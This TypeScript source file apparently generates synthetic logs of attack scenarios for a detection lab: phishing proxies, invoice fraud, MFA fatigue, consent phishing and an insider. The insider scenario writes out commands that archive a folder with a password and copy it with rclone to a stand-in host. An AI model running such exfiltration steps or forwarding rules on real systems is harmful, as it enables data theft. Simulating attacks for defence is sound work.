import { onWindows } from '../programs.ts';
import { apps } from '../world.ts';
import type { Teller } from './teller.ts';

/** A phishing proxy takes a session; the mailbox is read and emptied with it. */
export function adversaryInTheMiddle(t: Teller): void {
  const victim = t.person(0);
  const [proxy, replay] = [t.address(101), t.address(102)];
  const url = `https://${t.site('login.contoso-verify.example')}/signin`;
  const mail = t.phish([victim], 0, 'desk@contoso-verify.example', url, 'Your password expires');
  t.click(victim, 0.2, url, mail);
  t.connect(victim.laptop, 0.21, victim, onWindows.edge, proxy, 'login.contoso-verify.example');
  t.signIn(victim, 0.25, proxy, { risks: ['anonymizedIPAddress', 'unfamiliarFeatures'] });
  for (let n = 0; n < 6; n++)
    t.signIn(victim, 2 + n * 0.4, replay, { quiet: true, app: apps.outlook, risks: ['anomalousToken'] });
  t.hidingRule(victim, 3, replay);
  t.downloads(victim, 6, replay, 90);
  t.forwarding(victim, 9, replay, 'box@mailbox.example');
}

/** An invoice is to be paid elsewhere: business e-mail compromise. */
export function businessMail(t: Teller): void {
  const [victim, ...others] = [t.person(1), ...t.bystanders(25)];
  const ip = t.address(103);
  for (let n = 0; n < 14; n++) t.signIn(victim, 0.1 + n * 0.02, ip, { error: 50126, mfa: 'none' });
  t.signIn(victim, 0.5, ip, { risks: ['unfamiliarFeatures'] });
  t.hidingRule(victim, 2, ip);
  t.forwarding(victim, 5, ip, 'accounts@invoices.example');
  t.mailFrom(victim, others, 8, 'New bank details', `https://${t.site('pay.invoices.example')}/form`);
  t.downloads(victim, 11, ip, 70);
}

/** Prompts for the second factor until one is allowed, then rights in the directory. */
export function mfaFatigue(t: Teller): void {
  const victim = t.person(2);
  const helper = t.person(3);
  const ip = t.address(104);
  for (let n = 0; n < 12; n++) t.signIn(victim, 0.05 + n * 0.03, ip, { result: '500121', mfa: 'none' });
  t.signIn(victim, 0.45, ip, { risks: ['unfamiliarFeatures'] });
  t.audit(victim, 2, ip, 'Add member to role', {
    id: helper.objectId,
    type: 'User',
    userPrincipalName: helper.upn,
    modifiedProperties: [{ displayName: 'Role.DisplayName', newValue: '"Global Administrator"' }],
  });
  t.signIn(helper, 4, ip, { risks: ['unfamiliarFeatures'] });
  t.audit(helper, 5, ip, 'Add service principal credentials', {
    id: t.rng.uuid(),
    displayName: 'Backup connector',
    type: 'ServicePrincipal',
    modifiedProperties: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: '["[KeyType=Password]"]' }],
  });
  t.downloads(helper, 8, ip, 80);
}

/** An application is let into a mailbox by consent. */
export function consent(t: Teller): void {
  const victim = t.person(4);
  const ip = t.address(105);
  const url = `https://${t.site('apps.calendar-sync.example')}/consent`;
  const mail = t.phish([victim], 0, 'hello@calendar-sync.example', url, 'Share your calendar');
  t.click(victim, 0.3, url, mail);
  t.audit(victim, 0.4, victim.office.egressIp, 'Consent to application', {
    id: t.rng.uuid(),
    displayName: 'Calendar Sync',
    type: 'ServicePrincipal',
    modifiedProperties: [
      {
        displayName: 'ConsentAction.Permissions',
        newValue: '[] => [[Id: 1, Scope: Mail.Read Mail.Send Files.Read.All]]',
      },
    ],
  });
  t.signIn(victim, 5, ip, { quiet: true, risks: ['anomalousToken'] });
  t.downloads(victim, 7, ip, 75);
  t.forwarding(victim, 26, ip, 'sync@calendar-sync.example');
}

/** Somebody who leaves takes the files along, from their own laptop and office. */
export function insider(t: Teller): void {
  const thief = t.person(5);
  const drop = t.address(106);
  t.downloads(thief, 0, thief.office.egressIp, 150);
  t.start(
    thief.laptop,
    20,
    thief,
    'C:\\Users\\Public\\7z.exe',
    '7z.exe a -pSecret1 -mhe C:\\Users\\Public\\out.7z C:\\Users\\Public\\Plans',
  );
  t.connect(
    thief.laptop,
    21,
    thief,
    { file: 'rclone.exe', folder: 'C:\\Users\\Public' },
    drop,
    t.site('drive.files-out.example'),
  );
  t.start(
    thief.laptop,
    21,
    thief,
    'C:\\Users\\Public\\rclone.exe',
    'rclone.exe copy C:\\Users\\Public\\out.7z far:in --transfers 8',
  );
  t.upload(thief.laptop, 21.05, drop, 'drive.files-out.example', 3);
  t.forwarding(thief, 24, thief.office.egressIp, 'me@private-mail.example');
}
